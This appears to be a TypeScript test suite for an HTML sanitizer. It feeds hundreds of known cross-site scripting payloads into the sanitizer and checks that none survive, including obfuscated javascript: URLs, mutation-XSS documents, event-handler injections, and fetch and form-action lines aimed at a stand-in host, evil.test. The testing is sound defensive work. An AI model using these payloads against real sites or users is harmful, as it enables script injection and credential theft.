import { cleanHtml } from './rich-text';

const CODE = ['alert(1)', 'fetch(`//evil.test`)'];

/** Schemes that run code or hide something, in spellings that browsers accept. */
const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript&colon;alert(1)',
  '&#0000106avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript\u00a0:alert(1)',
  'vbscript:msgbox(1)',
  'livescript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'blob:https://evil.test/x',
  'file:///etc/passwd',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  '//evil.test/x',
  '\\\\evil.test\\x',
  '/\\evil.test',
  'jar:javascript:alert(1)!',
  'ws://evil.test',
];

const URL_CARRIERS = [
  ...[
    'a href',
    'img src',
    'img srcset',
    'img lowsrc',
    'iframe src',
    'embed src',
    'object data',
    'form action',
  ],
  ...['button formaction', 'input src', 'video src', 'video poster', 'audio src', 'source src', 'track src'],
  ...['link href', 'base href', 'body background', 'table background', 'td background', 'applet code'],
  ...['svg xlink:href', 'math href', 'area href', 'blockquote cite', 'q cite', 'meta content', 'script src'],
  ...['use href', 'image href', 'animate to', 'frame src', 'isindex action', 'bgsound src', 'a ping'],
];

const HANDLERS = [
  ...['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'ontoggle'],
  ...[
    'onpointerenter',
    'onbegin',
    'onwheel',
    'oncopy',
    'onpageshow',
    'ONCLICK',
    'onclick\t',
    'on\u0000click',
  ],
];
const TAGS = ['p', 'img', 'a', 'svg', 'body', 'details', 'video', 'math', 'marquee', 'input', 'x'];

/** Documents that passed other sanitizers, through mutation or the way browsers repair HTML. */
const DOCUMENTS = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)//',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<a href="x"title="y"onclick=alert(1)>z</a>',
  `<a title='"><img src=x onerror=alert(1)>'>z</a>`,
  '<p title="</p><img src=x onerror=alert(1)>">z</p>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<template><script>alert(1)</script></template>',
  '<select><template><style><!--</style><img title="--><img src=x onerror=alert(1)>"></select>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<plaintext><script>alert(1)</script>',
  '<style>@import "//evil.test/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel="stylesheet" href="//evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test"><input name="password"></form>',
  '<img name="getElementById"><a id="document" name="cookie">x</a>',
  '<p is="evil-element" slot="x" class="x" data-x="y" contenteditable autofocus tabindex=1>x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '<\u0000script>alert(1)</script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="https://x.test" target="_blank" rel="opener">x</a>',
  '<p>'.repeat(2_000) + 'x',
  '<'.repeat(5_000),
];

const CORPUS = [
  ...DOCUMENTS,
  ...URLS.flatMap((url) =>
    URL_CARRIERS.flatMap((carrier) => {
      const [tag, attribute] = carrier.split(' ');
      return [`<${tag} ${attribute}="${url}">x</${tag}>`, `<${tag} ${attribute}='${url}' title=x>x`];
    }),
  ),
  ...HANDLERS.flatMap((handler) =>
    TAGS.flatMap((tag) => CODE.map((code) => `<${tag} ${handler}="${code}" src=x href=x>x</${tag}>`)),
  ),
];

const ALLOWED = new Set(
  (
    'h1 h2 h3 h4 h5 h6 hgroup p br wbr hr div span section article aside header footer address blockquote pre ' +
    'details summary strong b em i u s del ins small sub sup mark abbr a q cite dfn code kbd samp var time bdi bdo ' +
    'ruby rt rp ul ol li dl dt dd figure figcaption img table caption colgroup col thead tbody tfoot tr th td'
  ).split(' '),
);
const ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  img: ['src', 'alt', 'title', 'width', 'height', 'loading'],
  abbr: ['title'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan', 'scope'],
  col: ['span'],
  colgroup: ['span'],
  details: ['open'],
  li: ['value'],
  ol: ['start', 'reversed', 'type'],
  time: ['datetime'],
};
const EVERYWHERE = ['dir', 'lang'];
const TAG = /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)( \/)?>/g;
const SAFE_URL = /^(https?:|mailto:|tel:|\/(?![/\\])|#|\?|[\w.-]+(?![\w.:-])|$)/i;

/** Decodes a URL as a browser does before it reads the scheme. */
function decoded(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, digits: string) => String.fromCodePoint(Number(digits)))
    .replace(/&(tab|newline);/gi, '')
    .replace(/&colon;/gi, ':')
    .replace(/&amp;/gi, '&')
    .replace(/[\p{Cc} ]+/gu, '');
}

/** Returns everything in cleaned HTML beside text and allowed tags; empty when it is clean. */
function remains(html: string): string[] {
  const found: string[] = [];
  const text = html.replace(TAG, (whole: string, _closing: string, name: string, attributes: string) => {
    if (!ALLOWED.has(name)) found.push(whole);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (!EVERYWHERE.includes(attribute) && !ATTRIBUTES[name]?.includes(attribute))
        found.push(`${name} ${attribute}`);
      if (['href', 'src'].includes(attribute) && !SAFE_URL.test(decoded(value))) found.push(value);
    }
    return '';
  });
  if (/[<>]/.test(text)) found.push(text.slice(0, 200));
  return found;
}

describe('cleanHtml, against what is known to run script', () => {
  it('leaves nothing of it', () => {
    expect(CORPUS.length).toBeGreaterThan(500);
    const survivors = CORPUS.flatMap((html) => remains(cleanHtml(html)).map((rest) => ({ html, rest })));
    expect(survivors.slice(0, 20)).toEqual([]);
  });

  it('makes the same of what it has made, so that nothing comes back by cleaning twice', () => {
    const changed = CORPUS.filter((html) => cleanHtml(cleanHtml(html)) !== cleanHtml(html));
    expect(changed.slice(0, 20)).toEqual([]);
  });

  it('would notice what survives', () => {
    expect(remains('<p onclick="x">y</p><a href="java&Tab;script:x">z</a><svg>')).toHaveLength(3);
    expect(remains('<p>a < b</p>')).toHaveLength(1);
  });
});
